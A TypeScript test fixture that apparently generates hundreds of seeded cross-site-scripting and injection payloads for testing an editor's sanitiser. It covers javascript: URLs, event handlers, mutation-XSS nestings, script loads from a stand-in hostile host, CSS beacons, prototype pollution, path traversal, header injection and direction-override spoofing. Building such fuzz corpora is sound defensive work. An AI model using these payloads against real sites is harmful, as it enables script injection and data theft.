import { seededRandom } from '@weft/shared/testing/random';

/** How many payloads there are. */
export const COUNT = 500;

/** What a payload does if anything of it runs, from whatever window it runs in. */
const RUN = 'top.__ran()';
const PAGE = `<script>${RUN}</script>`;
const DRAWING = `<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`;
/** Nobody is to ask it for anything. */
const SITE = 'https://hostile.test';

const CODE_SCHEMES = ['javascript', 'JaVaScRiPt', 'vbscript', 'livescript', 'javascript\u00a0', '\u0001javascript', 'java\tscript', 'java\nscript', 'java\r\nscript', 'j\u0000avascript', 'java\u200bscript', '\ufeffjavascript', '&#106;avascript', '&#x6A&#x61vascript', 'java&Tab;script', 'view-source:javascript', 'feed:javascript', 'jar:javascript', 'mocha'] as const; // prettier-ignore
const COLONS = [':', '&colon;', '&#58;', ':\n', '://%0a', ':/*--></title></style></textarea>*/'] as const; // prettier-ignore

/** Addresses that would run something, load something, or lead where they do not say. */
const ADDRESSES: readonly string[] = [
  ...CODE_SCHEMES.flatMap((scheme) => COLONS.map((colon) => `${scheme}${colon}${RUN}`)),
  `data:text/html,${PAGE}`,
  `data:text/html;base64,${btoa(PAGE)}`,
  `DATA:image/svg+xml,${DRAWING}`,
  `data:image/svg+xml;base64,${btoa(DRAWING)}`,
  'data:application/xhtml+xml,<x/>',
  'blob:https://hostile.test/7f5a',
  'blob:null/7f5a',
  'filesystem:https://hostile.test/temporary/x',
  'file:///etc/passwd',
  'about:srcdoc',
  'about:blank#x',
  'chrome://settings',
  'intent://x#Intent;scheme=javascript;end',
  'ms-msdt:/id',
  'tel:+1',
  'sms:+1',
  'ws://hostile.test',
  'ftp://hostile.test/x',
  '\\\\hostile.test\\x',
  '/\\hostile.test/x',
  'https:javascript:top.__ran()',
  'http:///javascript:top.__ran()',
  `${SITE}/"onmouseover="${RUN}`,
  `${SITE}/'><img src=x onerror=${RUN}>`,
  `https://good.test:${RUN}@hostile.test/`,
  'https://\u202emoc.elgoog\u202c.hostile.test/',
  'https://xn--80ak6aa92e.test/',
  'https://[::1]:99999/',
  'https://%00/',
];

/** Addresses that only look like those of the sites whose pages may be embedded. */
const LOOKALIKES: readonly string[] = ['www.youtube.com', 'youtu.be', 'player.vimeo.com', 'www.loom.com', 'www.figma.com', 'codepen.io', 'open.spotify.com', 'docs.google.com'].flatMap((host) => [
  `https://${host}.hostile.test/embed/dQw4w9WgXcQ`,
  `https://hostile.test/?${host}/embed/dQw4w9WgXcQ`,
  `https://${host}@hostile.test/embed/dQw4w9WgXcQ`,
  `https://${host}:8443/embed/dQw4w9WgXcQ`,
  `https://hostile.test\\@${host}/embed/dQw4w9WgXcQ`,
  `javascript://${host}/%0a${RUN}`,
  `https://${host}/../../embed/"><script>${RUN}</script>`,
  `https://${host.replace('.', '\u3002')}.hostile.test/x`,
]); // prettier-ignore

const HANDLERS = ['onload', 'onerror', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'ontransitionend', 'onpointerenter', 'onbeforetoggle', 'oncontentvisibilityautostatechange', 'onpageshow', 'onhashchange', 'ONCLICK', 'oNwHeEl'] as const; // prettier-ignore
const TAGS = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'audio src=x autoplay', 'input autofocus', 'iframe src=/', 'object data=x', 'embed src=x', 'marquee', 'math', 'a href=# autofocus tabindex=0', 'select autofocus', 'textarea autofocus', 'style', 'link rel=stylesheet href=x', 'image href=x', 'x contenteditable autofocus', 'dialog open', 'button popovertarget=x', 'template', 'slot', 'custom-element'] as const; // prettier-ignore

const ATTRIBUTES: readonly string[] = HANDLERS.flatMap((handler, i) =>
  TAGS.filter((_, j) => (i + j) % 3 === 0).flatMap((tag) => [
    `<${tag} ${handler}=${RUN}>`,
    `<${tag.replaceAll(' ', '/')}/${handler}="${RUN}"/>`,
  ]),
);

const ELEMENTS: readonly string[] = [
  PAGE,
  `<SCRIPT/x>${RUN}</SCRIPT>`,
  `<script src=${SITE}/x.js></script>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=module>import '${SITE}/x.js'</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${SITE}"]}]}</script>`,
  `<script type=importmap>{"imports":{"yjs":"${SITE}/x.js"}}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<iframe srcdoc="${PAGE.replaceAll('<', '&lt;')}"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe src="${SITE}" name=opener></iframe>`,
  `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  `<object data="data:text/html,${PAGE}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=${SITE}">`,
  `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href="${SITE}/"><a href=x>x</a><img src=x>`,
  `<base target=_top>`,
  `<link rel=preload as=script href=${SITE}/x.js>`,
  `<link rel=dns-prefetch href=//hostile.test>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<form id=editor><input name=attributes><button formaction="javascript:${RUN}">x</button></form>`,
  `<template shadowrootmode=open>${PAGE}</template>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<plaintext>${PAGE}`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<portal src=${SITE}></portal><fencedframe src=${SITE}></fencedframe>`,
  `<img srcset="${SITE}/a 1x, javascript:${RUN} 2x">`,
  `<picture><source srcset=${SITE}/x><img></picture>`,
  `<video poster=${SITE}/x><source src="javascript:${RUN}"><track src=${SITE}/x></video>`,
  `<table background=${SITE}/x><td background="javascript:${RUN}">x</table>`,
  `<a href="${SITE}" ping=${SITE}/ping target=_top rel=opener>x</a>`,
  `<a href="javascript:${RUN}" download>x</a>`,
];

const MARKUP_OF_OTHERS: readonly string[] = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" begin=0s onbegin=${RUN}></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg><use href="data:image/svg+xml,${DRAWING}#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="${PAGE.replaceAll('<', '&lt;')}"></foreignObject></svg>`,
  `<svg><image href=${SITE}/x /><feImage href=${SITE}/x /></svg>`,
  `<svg><style>@import '${SITE}/x';</style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html">${PAGE}</annotation-xml></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}></style></mglyph></form>`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>"></math>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if gte IE 4]>${PAGE}<![endif]-->`,
  `<![CDATA[${PAGE}]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<table><caption><svg><title><style><img src=x onerror=${RUN}></style></title></svg></caption></table>`,
  `<p title='<img src=x onerror=${RUN}>'>x</p><option><style></option></select><img src=x onerror=${RUN}></style>`,
];

const STYLES: readonly string[] = [
  `<style>@import url(${SITE}/x);*{background:url(${SITE}/y)}</style>`,
  `<style>body{display:none}#editor{position:fixed;inset:0}</style>`,
  `<p style="background:url(${SITE}/x)">x</p>`,
  `<p style="background:url('javascript:${RUN}')">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="behavior:url(${SITE}/x.htc);-moz-binding:url(${SITE}/x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<p style="color:red;content:url(${SITE}/x);cursor:url(${SITE}/x),auto">x</p>`,
  `<p style="list-style-image:url(${SITE}/x);font-family:'x';src:url(${SITE}/x)">x</p>`,
  `red;background:url(${SITE}/x)`,
  `red}</style>${PAGE}`,
  `#ff0000;position:fixed`,
  `url(${SITE}/x)`,
  `var(--x,url(${SITE}/x))`,
  `image-set("${SITE}/x" 1x)`,
  '1px;height:9999px',
];

/** Names that mean something to the page, the language or the style sheet. */
const NAMES: readonly string[] = [
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__',
  'constructor.prototype.polluted', '__proto__.polluted', '__proto__[polluted]',
  '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}',
  '<p id=editor>x</p>', '<img name=body>', '<img name=createElement>', '<form name=documentElement><input name=firstChild></form>',
  '<a id=app></a><a id=app name=x href=javascript:1>x</a>', '<form id=CSS><output name=highlights></form>', '<iframe name=__ran></iframe>',
  '<p class="block weft-page media-frame" data-block=x data-layout=table data-page=x>x</p>', '<p contenteditable=false data-viewed>x</p>',
  '"><p id="editor">', "'-top.__ran()-'", '${top.__ran()}', '{{top.__ran()}}', '{{constructor.constructor("top.__ran()")()}}', '#{top.__ran()}', '<%= top.__ran() %>',
  'language-javascript" onclick="top.__ran()', 'js\u0000', '../../../etc/passwd', '..\\..\\x', 'con', 'a\r\nSet-Cookie: x=1', 'a";filename="b.html', "x.png' onerror='top.__ran()",
  'text', 'heading1 ', 'tableRow', 'tableColumn', 'column', 'TEXT', '\u0000', ' ',
]; // prettier-ignore

const FORMULAS: readonly string[] = [
  `\\href{javascript:${RUN}}{x}`, `\\url{javascript:${RUN}}`, `\\includegraphics{${SITE}/x.png}`, `\\includegraphics[alt=${PAGE}]{data:image/svg+xml,x}`,
  '\\htmlId{editor}{x}', '\\htmlClass{block weft-page}{x}', `\\htmlStyle{background:url(${SITE}/x)}{x}`, `\\htmlData{x=<img src=x onerror=${RUN}>}{x}`,
  `\\text{${PAGE}}`, `\\unicode{<img src=x onerror=${RUN}>}`, '\\def\\x{\\x\\x}\\x', '\\rule{9999em}{9999em}', '\\kern{9999em}x', '\\color{red;background:url(x)}x', `\\textcolor{"onclick=${RUN}}{x}`,
  `\\begin{matrix}<script>&${RUN}\\end{matrix}`, '\\gdef\\constructor{x}\\constructor', '{'.repeat(200), '\\frac'.repeat(60), '\\char"10FFFF', '\\verb|<script>|', '\\tag{<b>}x',
]; // prettier-ignore

const LONG: readonly string[] = [
  'a'.repeat(3_000), '<b>'.repeat(500), '\u202e'.repeat(300), '[x]('.repeat(400), '![](https://'.repeat(150), '`'.repeat(500), '*'.repeat(700), '&lt;'.repeat(400), '\u0301'.repeat(600), '👩‍👩‍👧‍👦'.repeat(100), '> '.repeat(300), '| a '.repeat(300), '\u2028\u2029\u0085'.repeat(100), '\ud83d'.repeat(50), `${'<div>'.repeat(400)}${PAGE}`,
]; // prettier-ignore

const DIRECTIONS: readonly string[] = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c', '\ufff9'].flatMap((sign) => [
  `${sign}gnp.exe`, `invoice${sign}fdp.exe`, `${sign}${PAGE}`, `https://hostile.test/${sign}moc.elgoog`,
]); // prettier-ignore

const MARKDOWN: readonly ((address: string) => string)[] = [
  (address) => `[words](${address})`,
  (address) => `[words](<${address}>)`,
  (address) => `![words](${address} "${PAGE}")`,
  (address) => `<${address}>`,
  (address) => `[words][1]\n\n[1]: ${address}`,
  (address) => `<a href="${address}">words</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<bookmark url="${address}" title="${address}"/>`,
  (address) => `<embed url='${address}'/>`,
  (address) => `<iframe src="${address}"></iframe>`,
];

const FAMILIES: readonly (readonly string[])[] = [
  ADDRESSES,
  LOOKALIKES,
  ATTRIBUTES,
  ELEMENTS,
  MARKUP_OF_OTHERS,
  STYLES,
  NAMES,
  FORMULAS,
  LONG,
  DIRECTIONS,
  ADDRESSES.flatMap((address, i) => MARKDOWN.filter((_, j) => (i + j) % 5 === 0).map((write) => write(address))),
]; // prettier-ignore

/** Around a payload, to change how it is read. */
const AROUND: readonly (readonly [before: string, after: string])[] = [
  ['<table><tr><td>', '</table>'],
  ['<ul><li>', ''],
  ['<b><p>', '</b>'],
  ['<svg><title>', ''],
  ['<math><mtext>', '</math>'],
  ['"><', '>'],
  ["'>", ''],
  ['-->', '<!--'],
  [']]>', ''],
  ['</textarea></title></style></noscript>', ''],
  ['```\n', '\n```'],
  ['| a |\n| - |\n| ', ' |'],
];

/** Every family whole, and then their members in each other's company until there are enough. */
export function payloads(seed: number): readonly string[] {
  const random = seededRandom(seed);
  const rest = FAMILIES.map((family) => [...family]);
  const made = new Set<string>();
  // A share of each family before more of any.
  for (let round = 0; made.size < COUNT - 60; round += 1) {
    const family = rest[round % rest.length];
    if (family && family.length > 0) made.add(...(family.splice(random.below(family.length), 1) as [string]));
  } // prettier-ignore
  while (made.size < COUNT) {
    const [before, after] = random.pick(AROUND);
    made.add(`${before}${random.pick(random.pick(FAMILIES))}${after}`);
  }
  return [...made];
}

/** Addresses alone, for what takes nothing else. */
export function addresses(): readonly string[] {
  return [...ADDRESSES, ...LOOKALIKES];
}
